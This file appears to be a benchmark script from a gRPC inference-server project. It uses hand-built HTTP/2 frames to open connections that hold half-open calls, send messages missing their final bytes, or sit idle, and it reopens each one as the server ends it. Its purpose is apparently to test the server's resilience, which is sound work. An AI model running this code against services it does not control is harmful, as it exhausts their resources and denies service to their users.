"""Peers that cost a server as much as they can: half-open calls, messages that stop short, idle connections.

They speak HTTP/2 in bytes that were made beforehand, so that they cost the machine little and the server much. Each
attack runs in a process of its own, and goes on for as long as it lives: what the server ends is begun again.

    python benchmarks/attacks.py HOST:PORT '{"kind": "half-open", "calls": 700}'
"""

import asyncio
import contextlib
import json
import ssl
import sys
from collections.abc import Coroutine
from dataclasses import dataclass, field
from typing import Any

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
HEALTH = "/grpc.health.v1.Health/Check"
AGAIN_S = 0.05
"""Between the end of a call or a connection and the next try."""
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_INITIAL_WINDOW, _MAX_STREAMS = 4, 3
_MAX_FRAME = 2**14


@dataclass(frozen=True, kw_only=True)
class Attack:
    """What to do. `calls` are open at a time over all `connections`.

    `size` is a message's length, and `held_back` how many bytes of its end are not sent. `source` is the address that
    the connections come from.
    """

    kind: str
    connections: int = 1
    calls: int = 0
    size: int = 0
    held_back: int = 0
    method: str = INFER
    token: str | None = None
    ca: str | None = None
    certificate: str | None = None
    key: str | None = None
    source: str | None = None

    def headers(self) -> bytes:
        """Return the block of headers of every call; it refers to nothing that was sent before."""
        lines = [
            (":method", "POST"),
            (":scheme", "https" if self.ca else "http"),
            (":path", self.method),
            (":authority", "localhost"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        ]
        if self.token:
            lines.append(("authorization", f"Bearer {self.token}"))
        return Encoder().encode([NeverIndexedHeaderTuple(*line) for line in lines], huffman=False)

    def context(self) -> ssl.SSLContext | None:
        """Return the TLS settings; None for plain text."""
        if self.ca is None:
            return None
        context = ssl.create_default_context(cafile=self.ca)
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context


@dataclass(kw_only=True)
class Stream:
    """A call under way: what is left to send of its message, and how much of that the server lets in."""

    window: int
    left: int
    prefix: bytes = b""


def frame(kind: int, flags: int, stream_id: int, content: bytes = b"") -> bytes:
    """Return a frame's bytes."""
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + content


@dataclass
class Peer(asyncio.Protocol):
    """One connection that attacks."""

    attack: Attack
    calls: int
    block: bytes
    ended: asyncio.Event
    streams: dict[int, Stream] = field(default_factory=dict[int, Stream])

    def connection_made(self, transport: Any) -> None:
        """Say hello."""
        self.transport = transport
        self.received = bytearray()
        self.window = self.initial_window = 65535
        self.max_streams = 2**31
        self.next_stream = 1
        self.settled = False
        transport.write(PREFACE + frame(_SETTINGS, 0, 0))

    def connection_lost(self, exc: Exception | None) -> None:
        """Let the next one begin."""
        self.streams.clear()
        self.ended.set()

    def data_received(self, data: bytes) -> None:
        """Follow what the server says."""
        self.received += data
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                return
            kind, flags = self.received[3], self.received[4]
            stream_id = int.from_bytes(self.received[5:9], "big")
            content = bytes(self.received[9:end])
            del self.received[:end]
            self.take_frame(kind, flags, stream_id, content)

    def take_frame(self, kind: int, flags: int, stream_id: int, content: bytes) -> None:
        """Obey windows and limits, and begin anew what was ended."""
        if kind == _SETTINGS and not flags & _ACK:
            for at in range(0, len(content), 6):
                value = int.from_bytes(content[at + 2 : at + 6], "big")
                match int.from_bytes(content[at : at + 2], "big"):
                    case 4:
                        self.initial_window = value
                    case 3:
                        self.max_streams = value
                    case _:
                        pass
            self.transport.write(frame(_SETTINGS, _ACK, 0))
            if not self.settled:
                self.settled = True
                self.begin()
        elif kind == _PING and not flags & _ACK:
            self.transport.write(frame(_PING, _ACK, 0, content))
        elif kind == _WINDOW:
            increment = int.from_bytes(content, "big")
            if stream_id == 0:
                self.window += increment
            elif stream_id in self.streams:
                self.streams[stream_id].window += increment
            self.send()
        elif kind == _RST or (kind == _HEADERS and flags & _END_STREAM):
            if self.streams.pop(stream_id, None) is not None:
                asyncio.get_running_loop().call_later(AGAIN_S, self.begin)
        elif kind == _GOAWAY:
            self.transport.close()

    def begin(self) -> None:
        """Open as many calls as are wanted and allowed."""
        if self.transport.is_closing():
            return
        opened: list[bytes] = []
        while len(self.streams) < min(self.calls, self.max_streams):
            stream_id, self.next_stream = self.next_stream, self.next_stream + 2
            prefix = b"\0" + self.attack.size.to_bytes(4, "big") if self.attack.size else b""
            left = max(0, self.attack.size - self.attack.held_back)
            self.streams[stream_id] = Stream(window=self.initial_window, left=left, prefix=prefix)
            opened.append(frame(_HEADERS, _END_HEADERS, stream_id, self.block))
        self.transport.write(b"".join(opened))
        self.send()

    def send(self) -> None:
        """Send what the windows allow."""
        for stream_id, stream in self.streams.items():
            while (wanted := len(stream.prefix) + stream.left) > 0:
                size = min(wanted, self.window, stream.window, _MAX_FRAME)
                if size <= 0 or size < len(stream.prefix) or self.transport.get_write_buffer_size() > 2**20:
                    break
                content = stream.prefix + bytes(size - len(stream.prefix))
                stream.left -= size - len(stream.prefix)
                stream.prefix = b""
                stream.window -= size
                self.window -= size
                self.transport.write(frame(_DATA, 0, stream_id, content))


async def keep_up(host: str, port: int, attack: Attack, calls: int) -> None:
    """Keep one connection up for ever."""
    loop = asyncio.get_running_loop()
    block, context = attack.headers(), attack.context()
    while True:
        ended = asyncio.Event()
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            transport, _ = await asyncio.wait_for(
                loop.create_connection(
                    lambda: Peer(attack, calls, block, ended),  # noqa: B023 - made before the next one
                    host,
                    port,
                    ssl=context,
                    local_addr=(attack.source, 0) if attack.source else None,
                    server_hostname="localhost" if context else None,
                ),
                30,
            )
            await ended.wait()
            transport.close()
        await asyncio.sleep(AGAIN_S)


async def run(host: str, port: int, attacks: list[Attack]) -> None:
    """Run attacks side by side until the process is ended."""
    peers: list[Coroutine[Any, Any, None]] = []
    for attack in attacks:
        for number in range(attack.connections):
            calls = attack.calls // attack.connections + (number < attack.calls % attack.connections)
            peers.append(keep_up(host, port, attack, calls))
    await asyncio.gather(*peers)


if __name__ == "__main__":
    server_host, _, server_port = sys.argv[1].rpartition(":")
    asyncio.run(run(server_host, int(server_port), [Attack(**json.loads(text)) for text in sys.argv[2:]]))
